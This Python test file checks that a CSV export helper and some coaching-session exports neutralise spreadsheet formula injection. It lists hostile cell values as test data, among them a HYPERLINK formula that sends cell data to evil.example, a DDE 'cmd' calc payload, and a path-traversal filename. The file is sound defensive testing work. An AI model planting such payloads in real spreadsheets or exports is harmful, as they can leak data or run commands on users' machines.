"""cop.core.csvsafe (the shared writer) and the coaching exports against formula injection."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest

from cop.coaching import services
from cop.core.csvsafe import csv_response, iter_csv, neutralise, to_csv
from cop.core.models import utcnow
from tests.coaching.conftest import log

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_could_be_formulas_are_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", " =1+1", "", "100%", "'quoted", "é = e"])
def test_other_text_is_left_alone(value):
    assert neutralise(value) == value


def test_numbers_dates_and_none():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(Decimal("-1")) == -1
    assert neutralise("-3") == "'-3", "text that looks like a number is still text"
    assert neutralise(None) == ""
    assert neutralise(True) == "yes" and neutralise(False) == "no"
    assert neutralise(date(2026, 1, 2)) == "2026-01-02"
    assert neutralise(datetime(2026, 1, 2, 3, 4)) == "2026-01-02T03:04:00"


def test_the_csv_module_quotes_the_rest():
    text = to_csv(["a", "b"], [["x, y", 'say "hi"'], ["line\nbreak", "=1"], [-1, None]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["a", "b"], ["x, y", 'say "hi"'], ["line\nbreak", "'=1"], ["-1", ""]]
    assert (
        "".join(iter_csv(["a", "b"], [["x, y", 'say "hi"'], ["line\nbreak", "=1"], [-1, None]]))
        == text
    )


def test_the_download_response(app):
    with app.test_request_context():
        response = csv_response('../../etc/pa"sswd.csv', ["h"], [["=x"]])
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="....etcpasswd.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [["h"], ["'=x"]]


def test_the_coaching_exports_neutralise_what_users_typed(login_as, world, db):
    topic = services.add_topic(world["admin"], "=EVIL()")
    log(
        world["coach"],
        world["alpha"],
        need="+1+1",
        summary='=HYPERLINK("x")',
        outcome="-2+3",
        other_attendees="@SUM(A1)",
        private_notes="=cmd|calc",
        topics=[topic.slug],
        started_at=utcnow() - timedelta(days=1),
        items=[("=1+1 send it", world["lead"].id, None)],
    )
    client = login_as("coach")
    for url in ("/coaching/export/sessions.csv?quarter=all", "/coaching/export/summary.csv"):
        response = client.get(url)
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], f"{url}: {risky}"
        text = response.get_data(as_text=True)
        assert "'=EVIL()" in text
    sessions = client.get("/coaching/export/sessions.csv?quarter=all").get_data(as_text=True)
    for value in ("'+1+1", "'=HYPERLINK", "'-2+3", "'@SUM(A1)", "'=cmd|calc"):
        assert value in sessions, value
